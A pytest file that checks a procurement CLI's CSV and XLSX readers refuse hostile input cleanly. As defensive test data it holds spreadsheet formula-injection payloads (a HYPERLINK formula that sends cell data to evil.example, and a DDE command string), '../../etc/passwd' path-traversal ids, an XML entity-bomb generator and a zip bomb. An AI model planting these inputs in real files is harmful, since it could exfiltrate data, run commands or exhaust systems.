"""Hostile CSV and XLSX inputs: market/index.csv, performance/*.csv, the price observations of
`procure index build`, and RFP spreadsheets for `procure import`.

Missing and extra columns, formulas in cells (refused or kept as text, never evaluated), wrong types
row by row, and malformed files: each ends in exit 2 naming the file and line (row), with nothing
written, or in a safe result. Each file's family is run once at the command line (exit 2, no traceback,
nothing written); its other cases are checked on the problems the reader or use case raises, in process
(tests/refusals.py).
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from clihelp import assert_error, run
from refusals import compare, refused, validate

QUOTES_HEADER = "date,gpu,price,kind,term_months,seller,grade,gpu_hours\n"
GOOD_QUOTE = "2026-10-05,B200,6.00,advertised,0,Ember,T-BM,0\n"
FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "=TODAY()"]


def csv_line(*cells: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(cells)
    return buffer.getvalue()


# --- market/index.csv ---------------------------------------------------------------------------------


def index_refused(ws: Path, tmp_path: Path, text: str, *needles: str) -> str:
    """At the command line: validate and compare --out each exit 2 naming the problems, compare writing nothing."""
    (ws / "market" / "index.csv").write_text(text, encoding="utf-8")
    stderr = assert_error(run("validate", "-w", ws), *needles)
    out = tmp_path / "out" / "cmp.csv"
    assert_error(run("compare", "--format", "csv", "--out", out, "-w", ws), *needles)
    assert not out.exists()
    return stderr


def index_problems(ws: Path, text: str, *needles: str) -> str:
    """In process: the use cases of validate and compare each refuse the index with the problems named."""
    (ws / "market" / "index.csv").write_text(text, encoding="utf-8")
    problems = refused(validate(ws), *needles)
    refused(compare(ws), *needles)
    return problems


@pytest.mark.parametrize(
    "text",
    [
        "date\n2026-09-30\n",
        "price\n5.00\n",
        "date,price,source\n2026-09-30,5.00,x\n",
        "price,date\n5.00,2026-09-30\n",
        "date;price\n2026-09-30;5.00\n",
        "Date,Price\n2026-09-30,5.00\n",
    ],
    ids=["missing-price", "missing-date", "extra-column", "reordered", "semicolons", "capitalised"],
)
def test_index_with_wrong_columns_is_refused(workspace_copy, tmp_path, text):
    ws = workspace_copy("basic")
    index_problems(ws, text, "market/index.csv:1:", "expected columns date, price")


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_an_index_price_is_refused(workspace_copy, tmp_path, formula):
    ws = workspace_copy("basic")
    stderr = index_problems(
        ws,
        "date,price\n2026-09-30,5.00\n" + csv_line("2026-10-31", formula),
        "market/index.csv:3: price: must be a number",
    )
    assert f"(got {formula!r})" in stderr  # the formula as typed, never a value computed from it


def test_formula_in_an_index_date_is_refused(workspace_copy, tmp_path):
    ws = workspace_copy("basic")
    index_problems(ws, "date,price\n=TODAY(),5.00\n", "market/index.csv:2: date:")


def test_index_rows_with_wrong_types_are_each_reported_with_their_line(workspace_copy, tmp_path):
    ws = workspace_copy("basic")
    text = (
        "date,price\n2026-01-31,abc\n2026-13-01,5\n2026-03-31,-1\n2026-04-30,nan\n2026-05-31,inf\n2026-06-30,$5\n"
        "2026-07-31,true\n2026-08-31\n2026-09-30,5.00\n2026-09-30,6.00\n"
    )
    stderr = index_refused(
        ws,
        tmp_path,
        text,
        "market/index.csv:2: price:",
        "market/index.csv:3: date:",
        "market/index.csv:4: price:",
        "market/index.csv:5: price:",
        "market/index.csv:6: price:",
    )
    for line in (7, 8, 9, 11):
        assert f"market/index.csv:{line}:" in stderr


@pytest.mark.parametrize(
    "data",
    [b"", b"\x00\x01\x02", "date,price\n2026-09-30,5.00\n".encode("utf-16"), b"date,price\n2026-09-30,5\xff.00\n"],
    ids=["empty", "binary", "utf-16", "latin-1"],
)
def test_malformed_index_file_is_refused(workspace_copy, tmp_path, data):
    ws = workspace_copy("basic")
    (ws / "market" / "index.csv").write_bytes(data)
    refused(validate(ws), "market/index.csv")


def test_index_built_layout_with_an_empty_level_is_refused(workspace_copy, tmp_path):
    ws = workspace_copy("basic")
    index_problems(ws, "period,level,observations\n2026-09-01,5.0,3\n2026-10-01,,0\n", "market/index.csv:3: level:")


# --- performance/*.csv ---------------------------------------------------------------------------------


CURVE = "performance/test-curve.csv"


@pytest.mark.parametrize(
    "text, needle",
    [
        ("interactivity\n50\n", "missing output_tok_s_gpu"),
        ("interactivity,output_tok_s_gpu,vendor_note\n50,400,x\n", "unexpected vendor_note"),
        ("output_tok_s_gpu,interactivity\n400,50\n", "in this order"),
        ("", "no header"),
        ("# only a comment\n", "no header"),
        ("interactivity,output_tok_s_gpu\n", "no points"),
    ],
    ids=["missing-column", "extra-column", "reordered", "empty", "comment-only", "header-only"],
)
def test_curve_with_wrong_columns_is_refused(workspace_copy, text, needle):
    ws = workspace_copy("basic")
    (ws / CURVE).write_text(text, encoding="utf-8")
    refused(validate(ws), CURVE, needle)


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_a_curve_is_refused(workspace_copy, formula):
    ws = workspace_copy("basic")
    (ws / CURVE).write_text(
        "interactivity,output_tok_s_gpu\n" + csv_line("50", formula) + "100,300\n", encoding="utf-8"
    )
    refused(validate(ws), f"{CURVE}:2: output_tok_s_gpu: must be a number")


def test_curve_rows_with_wrong_types_are_each_reported(workspace_copy):
    ws = workspace_copy("basic")
    (ws / CURVE).write_text(
        "interactivity,output_tok_s_gpu\nfast,400\n100,-300\n150,nan\n200,1e999\n250,$300\n", encoding="utf-8"
    )
    assert_error(
        run("validate", "-w", ws),
        f"{CURVE}:2: interactivity",
        f"{CURVE}:3: output_tok_s_gpu",
        f"{CURVE}:4: output_tok_s_gpu",
        f"{CURVE}:5: output_tok_s_gpu",
        f"{CURVE}:6: output_tok_s_gpu",
    )


def test_a_short_curve_row_does_not_hide_the_other_problems(workspace_copy):
    ws = workspace_copy("basic")
    (ws / CURVE).write_text("interactivity,output_tok_s_gpu\nfast,400\n100,-300\n250\n", encoding="utf-8")
    refused(validate(ws), f"{CURVE}:2: interactivity", f"{CURVE}:3: output_tok_s_gpu", f"{CURVE}:4:")


def test_curve_with_a_bad_ttft_column_is_refused(workspace_copy):
    ws = workspace_copy("basic")
    (ws / CURVE).write_text("interactivity,output_tok_s_gpu,ttft_s\n50,400,0.5\n100,300,=1+1\n", encoding="utf-8")
    refused(validate(ws), f"{CURVE}:3: ttft_s: must be a number")


# --- market/quotes.csv for `procure index build` ----------------------------------------------------


def build(ws: Path, text: str, *extra: str, out: Path | None = None):  # type: ignore[no-untyped-def]
    quotes = ws / "market" / "quotes.csv"
    quotes.write_text(text, encoding="utf-8")
    args = ["index", "build", str(quotes), "-w", str(ws), *extra]
    if out is not None:
        args += ["--out", str(out)]
    return run(*args), str(quotes)


def index_of(ws: Path, text: str, **asked: str) -> Callable[[], Any]:
    """`procure index build market/quotes.csv -w WS` at its use case (procure/analysis/usecases/market.py), the
    quotes written first."""
    from procure.analysis.usecases.market import IndexAsked, index_build

    quotes = ws / "market" / "quotes.csv"
    quotes.write_text(text, encoding="utf-8")
    return lambda: index_build(quotes, ws, IndexAsked(**asked))


@pytest.mark.parametrize(
    "header, needle",
    [
        ("date,gpu,price,kind,term_months,seller,grade\n", "missing gpu_hours"),
        ("date,gpu,price,kind,term_months,seller,grade,gpu_hours,comment\n", "unexpected comment"),
        ("gpu,date,price,kind,term_months,seller,grade,gpu_hours\n", "in this order"),
    ],
    ids=["missing-column", "extra-column", "reordered"],
)
def test_quotes_with_wrong_columns_are_refused(workspace_copy, tmp_path, header, needle):
    ws = workspace_copy("market_ws")
    out = tmp_path / "out" / "index.csv"
    result, quotes = build(ws, header + GOOD_QUOTE, out=out)
    assert_error(result, f"{quotes}:1:", needle)
    assert not out.exists()


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["price", "gpu_hours", "term_months", "date"])
def test_formula_in_a_quote_number_is_refused(workspace_copy, tmp_path, formula, column):
    ws = workspace_copy("market_ws")
    cells = dict(zip(QUOTES_HEADER.strip().split(","), GOOD_QUOTE.strip().split(",")))
    cells[column] = formula
    quotes = ws / "market" / "quotes.csv"
    refused(index_of(ws, QUOTES_HEADER + GOOD_QUOTE + csv_line(*cells.values())), f"{quotes}:3: {column}:")


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_a_quote_text_cell_is_kept_as_text(workspace_copy, formula):
    """Seller names are labels: a formula there is text, never evaluated, and the level is unaffected."""
    ws = workspace_copy("market_ws")
    text = QUOTES_HEADER + GOOD_QUOTE + csv_line("2026-10-06", "B200", "7.00", "advertised", "0", formula, "T-BM", "0")
    made = index_of(ws, text)().build
    assert [p.level for p in made.points] == [6.5]  # the median of 6.00 and 7.00


def test_quote_rows_with_wrong_types_are_each_reported(workspace_copy):
    ws = workspace_copy("market_ws")
    rows = [
        "yesterday,B200,6.00,advertised,0,Ember,T-BM,0",
        "2026-10-06,B200,abc,advertised,0,Ember,T-BM,0",
        "2026-10-07,B200,6.00,sold,0,Ember,T-BM,0",
        "2026-10-08,B200,6.00,advertised,1.5,Ember,T-BM,0",
        "2026-10-09,B200,6.00,transacted,12,Ember,T-BM,-3",
        "2026-10-10,B200,nan,advertised,0,Ember,T-BM,0",
        "2026-10-11,B200,6.00,transacted,12,Ember,T-BM,0",
        "2026-10-12,,6.00,advertised,0,,T-BM,0",
        "2026-10-13,B200,6.00",
        "2026-10-14,B200,true,advertised,0,Ember,T-BM,0",
    ]
    quotes = ws / "market" / "quotes.csv"
    stderr = refused(index_of(ws, QUOTES_HEADER + "\n".join(rows) + "\n"))
    for line, column in [
        (2, "date"),
        (3, "price"),
        (4, "kind"),
        (5, "term_months"),
        (6, "gpu_hours"),
        (7, "price"),
        (8, "gpu_hours"),
        (9, "gpu"),
        (10, ""),
        (11, "price"),
    ]:
        assert f"{quotes}:{line}: {column}" in stderr, (line, column, stderr)


@pytest.mark.parametrize(
    "data",
    [b"", QUOTES_HEADER.encode(), b"\x00\x01", b"# comment only\n"],
    ids=["empty", "header-only", "binary", "comment-only"],
)
def test_malformed_quotes_file_is_refused(workspace_copy, data):
    from procure.analysis.usecases.market import IndexAsked, index_build

    ws = workspace_copy("market_ws")
    quotes = ws / "market" / "quotes.csv"
    quotes.write_bytes(data)
    refused(lambda: index_build(quotes, ws, IndexAsked()), str(quotes))


def test_missing_quotes_file_is_a_usage_error(workspace_copy, tmp_path):
    ws = workspace_copy("market_ws")
    result = run("index", "build", tmp_path / "nowhere.csv", "-w", ws)
    assert result.exit_code == 2 and "Traceback" not in result.stdout + result.stderr
    assert "nowhere.csv" in result.stderr


def built_or_refused(call: Callable[[], Any]) -> str:
    """The index as CSV, or "" when refused with an InputError (exit 2 at the command line); any other exception
    (a traceback at the command line) and any RuntimeWarning, in the CSV, the JSON or the Markdown with the
    methodology, fail the test."""
    import warnings

    from procure.errors import InputError
    from procure.render.market import index_text

    with warnings.catch_warnings():
        warnings.simplefilter("error", RuntimeWarning)
        try:
            made = call().build
        except InputError as exc:
            assert exc.problems
            return ""
        for fmt in ("json", "markdown"):
            index_text(made, fmt)
        return index_text(made, "csv")


def test_huge_quote_prices_never_give_an_infinite_level(workspace_copy):
    ws = workspace_copy("market_ws")
    rows = "2026-10-05,B200,1e308,advertised,0,Ember,T-BM,0\n2026-10-06,B200,1e308,advertised,0,Fjord,T-BM,0\n"
    written = built_or_refused(index_of(ws, QUOTES_HEADER + rows))
    assert "inf" not in written.lower() and "nan" not in written.lower()


def test_quotes_with_extreme_dates_and_terms_are_safe(workspace_copy):
    ws = workspace_copy("market_ws")
    rows = (
        "9999-12-31,B200,6.1,advertised,0,E,T-BM,0\n0001-01-01,B200,6.1,advertised,0,E,T-BM,0\n"
        "2026-10-06,B200,6.1,advertised,1e300,E,T-BM,0\n"
    )
    for period in ("month", "week"):
        built_or_refused(index_of(ws, QUOTES_HEADER + rows, period=period))


def test_quoted_newline_in_a_seller_name_is_an_error_not_a_crash(workspace_copy):
    from procure.errors import InputError

    ws = workspace_copy("market_ws")
    call = index_of(ws, QUOTES_HEADER + GOOD_QUOTE + '2026-10-06,B200,6.1,advertised,0,"Em\nber",T-BM,0\n')
    try:
        call()
    except InputError as exc:
        assert f"{ws / 'market' / 'quotes.csv'}:3:" in "\n".join(map(str, exc.problems))


# --- RFP import -----------------------------------------------------------------------------------------------


def rfp_rows(data_dir: Path) -> list[list[str]]:
    with open(data_dir / "import_rfp.csv", encoding="utf-8", newline="") as handle:
        return [row for row in csv.reader(handle)]


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def write_xlsx(path: Path, rows: list[list[str]]) -> Path:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        out = []
        for cell in row:
            try:
                out.append(float(cell) if cell and not cell.startswith("=") and cell.strip() == cell else cell or None)
            except ValueError:
                out.append(cell or None)
        sheet.append(out)
    book.save(path)
    return path


def import_refused(ws: Path, sheet: Path, *needles: str) -> str:
    """At the command line: `procure import SHEET --out WS/offers` exits 2 naming the problems, the offers untouched."""
    offers = ws / "offers"
    before = {p.name: p.read_bytes() for p in offers.iterdir()}
    result = run("import", sheet, "--out", offers)
    stderr = assert_error(result, *needles)
    assert {p.name: p.read_bytes() for p in offers.iterdir()} == before, "import wrote or changed offer files"
    return stderr


def import_problems(ws: Path, sheet: Path, *needles: str) -> str:
    """In process: the RFP reader (procure/io/importers.py import_offers) refuses the sheet with the problems named,
    the offers folder untouched."""
    from procure.io.importers import import_offers

    offers = ws / "offers"
    before = {p.name: p.read_bytes() for p in offers.iterdir()}
    problems = refused(lambda: import_offers(sheet, offers), *needles)
    assert {p.name: p.read_bytes() for p in offers.iterdir()} == before, "import wrote or changed offer files"
    return problems


def imported_or_refused(sheet: Path, out: Path) -> None:
    """The RFP reader reads the sheet or refuses it with an InputError (exit 2 at the command line); any other
    exception would be a traceback."""
    from procure.errors import InputError
    from procure.io.importers import import_offers

    try:
        import_offers(sheet, out)
    except InputError as exc:
        assert exc.problems


def with_cell(rows: list[list[str]], row: int, column: str, value: str) -> list[list[str]]:
    copy = [list(r) for r in rows]
    copy[row][copy[0].index(column)] = value
    return copy


def test_import_of_the_fixture_works(workspace_copy, data_dir, tmp_path):
    """The baseline for the hostile cases below: the unmodified sheet imports."""
    ws = workspace_copy("basic")
    sheet = write_csv(tmp_path / "rfp.csv", rfp_rows(data_dir))
    result = run("import", sheet, "--out", ws / "offers")
    assert result.exit_code == 0, result.stderr
    assert (ws / "offers" / "delta.yaml").is_file()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("formula", FORMULAS[:2])
@pytest.mark.parametrize("column", ["pricing.gpu_hour", "vendor", "notes"])
def test_import_refuses_formulas_and_never_evaluates_them(workspace_copy, data_dir, tmp_path, kind, formula, column):
    ws = workspace_copy("basic")
    rows = with_cell(rfp_rows(data_dir), 1, column, formula)
    writer = write_csv if kind == "csv" else write_xlsx
    sheet = writer(tmp_path / f"rfp.{kind}", rows)
    import_problems(ws, sheet, f"{sheet}:2: {column}:", "formula")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_import_without_a_required_column_is_refused(workspace_copy, data_dir, tmp_path, kind):
    ws = workspace_copy("basic")
    rows = rfp_rows(data_dir)
    drop = rows[0].index("pricing.gpu_hour")
    rows = [[c for i, c in enumerate(r) if i not in (0, drop)] for r in rows]  # no id, no price
    writer = write_csv if kind == "csv" else write_xlsx
    sheet = writer(tmp_path / f"rfp.{kind}", rows)
    import_problems(ws, sheet, f"{sheet}:2: id: required field is missing", f"{sheet}:3: id:")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("name", ["bogus.column", "pricing.gpu_hours", "=1+1", "../../etc/passwd"])
def test_import_with_an_unknown_column_is_refused(workspace_copy, data_dir, tmp_path, kind, name):
    ws = workspace_copy("basic")
    rows = [r + [name if i == 0 else ("1" if any(r) else "")] for i, r in enumerate(rfp_rows(data_dir))]
    writer = write_csv if kind == "csv" else write_xlsx
    sheet = writer(tmp_path / f"rfp.{kind}", rows)
    import_problems(ws, sheet, f"{sheet}:1:")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_import_reports_wrong_types_per_row_and_column(workspace_copy, data_dir, tmp_path, kind):
    ws = workspace_copy("basic")
    rows = rfp_rows(data_dir)
    rows = with_cell(rows, 1, "pricing.gpu_hour", "abc")
    rows = with_cell(rows, 1, "received", "yesterday")
    rows = with_cell(rows, 2, "gpus", "1.5")
    rows = with_cell(rows, 2, "service.tenant_isolation", "maybe")
    rows = with_cell(rows, 2, "service.sla.availability", "99.5")
    writer = write_csv if kind == "csv" else write_xlsx
    sheet = writer(tmp_path / f"rfp.{kind}", rows)
    import_problems(
        ws,
        sheet,
        f"{sheet}:2: pricing.gpu_hour:",
        f"{sheet}:2: received:",
        f"{sheet}:3: gpus:",
        f"{sheet}:3: service.tenant_isolation:",
        f"{sheet}:3: service.sla.availability:",
    )


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "$4.00", "4,00", "TRUE"])
def test_import_refuses_non_numbers_in_number_cells(workspace_copy, data_dir, tmp_path, value):
    ws = workspace_copy("basic")
    sheet = write_csv(tmp_path / "rfp.csv", with_cell(rfp_rows(data_dir), 1, "pricing.gpu_hour", value))
    import_problems(ws, sheet, f"{sheet}:2: pricing.gpu_hour:")


@pytest.mark.parametrize("offer_id", ["../../etc/passwd", "a/b", "..", "x\\y"])
def test_import_refuses_ids_that_would_be_paths(workspace_copy, data_dir, tmp_path, offer_id):
    ws = workspace_copy("basic")
    sheet = write_csv(tmp_path / "rfp.csv", with_cell(rfp_rows(data_dir), 1, "id", offer_id))
    import_problems(ws, sheet, f"{sheet}:2: id:")
    assert not (tmp_path / "etc").exists()


def test_import_of_rows_longer_than_the_header_is_refused(workspace_copy, data_dir, tmp_path):
    ws = workspace_copy("basic")
    rows = rfp_rows(data_dir)
    rows[1] = rows[1] + ["stray", "cells"]
    sheet = write_csv(tmp_path / "rfp.csv", rows)
    import_problems(ws, sheet, f"{sheet}:")


@pytest.mark.parametrize(
    "name, data",
    [
        ("rfp.csv", b""),
        ("rfp.csv", b"\x00\x01\x02"),
        ("rfp.xlsx", b"PK\x03\x04garbage"),
        ("rfp.xlsx", b"not a zip at all"),
        ("rfp.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ],
    ids=["empty-csv", "binary-csv", "broken-zip", "not-a-zip", "old-xls"],
)
def test_import_of_a_malformed_file_is_refused(workspace_copy, tmp_path, name, data):
    ws = workspace_copy("basic")
    sheet = tmp_path / name
    sheet.write_bytes(data)
    import_problems(ws, sheet, str(sheet))


def rewrite_sheet(source: Path, target: Path, change) -> Path:  # type: ignore[no-untyped-def]
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            zout.writestr(item.filename, data)
    return target


XML_BOMB_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">'
    + b"".join(b'<!ENTITY l%d "%s">' % (i, b"".join(b"&l%d;" % (i - 1) for _ in range(10))) for i in range(1, 10))
    + b"]>"
)


def test_import_of_an_xlsx_with_an_xml_entity_bomb_is_refused(workspace_copy, data_dir, tmp_path):
    ws = workspace_copy("basic")
    good = write_xlsx(tmp_path / "good.xlsx", rfp_rows(data_dir))

    def bomb(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return XML_BOMB_DTD + body.replace(b"Delta Cloud", b"&l9;", 1)

    sheet = rewrite_sheet(good, tmp_path / "bomb.xlsx", bomb)
    import_problems(ws, sheet, str(sheet))


def test_import_of_an_xlsx_that_inflates_to_100_mb_is_handled_quickly(workspace_copy, data_dir, tmp_path):
    """A zip bomb of whitespace (100 MB inflated from 100 KB): read or refused within a few seconds."""
    import time

    good = write_xlsx(tmp_path / "good.xlsx", rfp_rows(data_dir))
    sheet = rewrite_sheet(
        good,
        tmp_path / "inflating.xlsx",
        lambda data: data.replace(b"<sheetData>", b"<sheetData>" + b" " * 100_000_000, 1),
    )
    assert sheet.stat().st_size < 2_000_000
    start = time.perf_counter()
    imported_or_refused(sheet, tmp_path / "imported")
    assert time.perf_counter() - start < 30  # a hang guard: ten times the 3.0 s measured on two loaded cores


def test_import_of_an_xlsx_with_a_huge_claimed_dimension_is_read_by_its_cells(workspace_copy, data_dir, tmp_path):
    good = write_xlsx(tmp_path / "good.xlsx", rfp_rows(data_dir))
    sheet = rewrite_sheet(
        good,
        tmp_path / "dimension.xlsx",
        lambda data: data.replace(b'<dimension ref="A1:AM4" />', b'<dimension ref="A1:XFD1048576" />'),
    )
    imported_or_refused(sheet, tmp_path / "imported")


def test_import_never_overwrites_without_force(workspace_copy, data_dir, tmp_path):
    ws = workspace_copy("basic")
    rows = with_cell(rfp_rows(data_dir), 1, "id", "alpha")  # the id of an existing offer
    sheet = write_csv(tmp_path / "rfp.csv", rows)
    import_refused(ws, sheet, "alpha")
